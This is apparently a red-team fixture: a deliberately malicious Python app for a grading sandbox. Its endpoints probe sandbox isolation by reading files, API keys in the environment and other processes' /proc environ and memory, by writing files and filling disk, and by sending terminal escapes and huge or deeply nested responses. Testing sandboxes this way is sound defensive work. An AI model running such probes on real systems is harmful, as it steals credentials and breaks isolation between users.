"""A malicious submission: every endpoint tries one escape and answers what it could do.

Standard library only. The red team's checks (tests/red_team/checks/probe_checks.py) call these
endpoints and judge the answers, so each attack gets its own verdict.
"""

import json
import os
import socket
import sys
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ESCAPES = "\x1b]0;pwned-title\x07\x1b[2J\x1b[31mred\x9b1m\r"
BIG_BYTES = 1 << 30
CHUNK = b"a" * (1 << 20)


def look(path):
    """What this process can learn of ``path``: read a file, list a folder, or why not.

    ``@self`` is this file (its own copy, which it must be able to read).
    """
    if path == "@self":
        path = os.path.abspath(__file__)
    try:
        if os.path.isdir(path):
            return {"kind": "dir", "entries": sorted(os.listdir(path))[:200]}
        with open(path, "rb") as handle:
            return {"kind": "file", "head": handle.read(64).decode("latin-1")}
    except FileNotFoundError:
        return {"kind": "missing"}
    except OSError as error:
        return {"kind": "denied", "error": f"{type(error).__name__}: {error}"}


def ask_llm():
    """One chat completion and the fake's /health: what the app learns of the grading."""
    base = os.environ.get("LLM_BASE_URL", "")
    body = json.dumps({"model": os.environ.get("LLM_MODEL", "sim-gpt-large"),
                       "messages": [{"role": "user", "content": "Summarize P0001"}]}).encode()
    request = urllib.request.Request(base + "/chat/completions", body,
                                     {"content-type": "application/json",
                                      "authorization": "Bearer " + os.environ.get("LLM_API_KEY", "")})
    headers, health = {}, ""
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            headers = dict(response.headers)
    except urllib.error.HTTPError as error:
        headers = dict(error.headers)
    except OSError as error:
        headers = {"error": str(error)}
    try:
        root = base.removesuffix("/v1")
        with urllib.request.urlopen(root + "/health", timeout=10) as response:
            health = response.read(65536).decode("utf-8", "replace")
    except OSError as error:
        health = f"error: {error}"
    names = ("LLM_API_KEY", "LLM_FALLBACK_API_KEY", "USER", "LOGNAME", "HOME")
    return {"headers": headers, "health": health, "env": {k: os.environ.get(k) for k in names}}


def write_markers(paths):
    done = {}
    for path in paths:
        try:
            with open(path, "w") as marker:
                marker.write("written by the red team's probe app\n")
            done[path] = "written"
        except OSError as error:
            done[path] = f"error: {error}"
    return done


def fill(folder, limit):
    """Write up to ``limit`` bytes into ``folder`` (files of 64 MiB), then remove them."""
    written, error = 0, None
    try:
        os.makedirs(folder, exist_ok=True)
        index = 0
        while written < limit and error is None:
            with open(os.path.join(folder, f"fill-{index}"), "wb") as out:
                for _ in range(64):
                    if written >= limit:
                        break
                    out.write(CHUNK)
                    out.flush()
                    written += len(CHUNK)
            index += 1
    except OSError as error_:
        error = str(error_)
    finally:
        for name in os.listdir(folder) if os.path.isdir(folder) else ():
            os.remove(os.path.join(folder, name))
        if os.path.isdir(folder):
            os.rmdir(folder)
    return {"written": written, "error": error}


def connect_unix(path):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(5)
            sock.connect(path)
            sock.sendall(b"hello from the app under grading\n")
            return {"connected": True}
    except OSError as error:
        return {"connected": False, "error": str(error)}


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode("utf-8", "replace").strip()
    except OSError:
        return ""


def first_mapping(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("r"):
                return int(span.split("-")[0], 16)
    return 0


def neighbours(tag, secret_file):
    """Another grading's app, seen through /proc: its environment, its memory, its files."""
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    visible = {pid: cmdline(pid) for pid in pids}
    found = {}
    for pid, line in visible.items():
        if tag not in line or int(pid) == os.getpid():
            continue
        attempt = {"cmdline": line}
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                attempt["environ"] = handle.read(4096).decode("utf-8", "replace")
        except OSError as error:
            attempt["environ_error"] = str(error)
        try:
            start = first_mapping(pid)
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.seek(start)
                attempt["mem_bytes"] = len(mem.read(64))
        except (OSError, ValueError) as error:
            attempt["mem_error"] = str(error)
        found[pid] = attempt
    try:
        with open(secret_file) as handle:
            secret = {"read": True, "text": handle.read(200)}
    except OSError as error:
        secret = {"read": False, "error": str(error)}
    return {"uid": os.getuid(), "pid": os.getpid(), "visible": visible, "victims": found,
            "victim_copy": secret}




class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        if self.path == "/health":
            return self.send_json(200, {"ok": True})
        if self.path == "/deep":
            return self.send_raw(200, b"[" * 200_000)
        if self.path == "/huge":
            return self.send_raw(200, b'{"ok": ' + b"9" * 5000 + b"}")
        if self.path == "/big":
            return self.send_big()
        if self.path == "/escape":
            return self.send_json(500, {"error": {"code": ESCAPES, "message": ESCAPES}})
        return self.send_json(404, {"error": {"code": "not_found", "message": "no such page"}})

    def do_POST(self):
        length = int(self.headers.get("content-length", 0))
        body = json.loads(self.rfile.read(length) or b"{}")
        if self.path == "/deep-stream":
            data = b"data: " + b"[" * 200_000 + b"\n\n"
            return self.send_raw(200, data, "text/event-stream")
        answers = {
            "/read": lambda: {path: look(path) for path in body["paths"]},
            "/llm": ask_llm,
            "/write": lambda: write_markers(body["paths"]),
            "/fill": lambda: fill(body["dir"], body["limit_bytes"]),
            "/unix": lambda: connect_unix(body["path"]),
            "/neighbours": lambda: neighbours(body["tag"], body["secret_file"]),
        }
        if self.path not in answers:
            return self.send_json(404, {"error": {"code": "not_found", "message": "no such page"}})
        return self.send_json(200, answers[self.path]())

    def send_big(self):
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(BIG_BYTES))
        self.end_headers()
        try:
            for _ in range(BIG_BYTES // len(CHUNK)):
                self.wfile.write(CHUNK)
        except OSError:
            pass

    def send_json(self, status, body):
        self.send_raw(status, json.dumps(body).encode())

    def send_raw(self, status, data, content_type="application/json"):
        self.send_response(status)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


port = int(sys.argv[sys.argv.index("--port") + 1])
print(ESCAPES + " redteam probe listening", flush=True)
ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
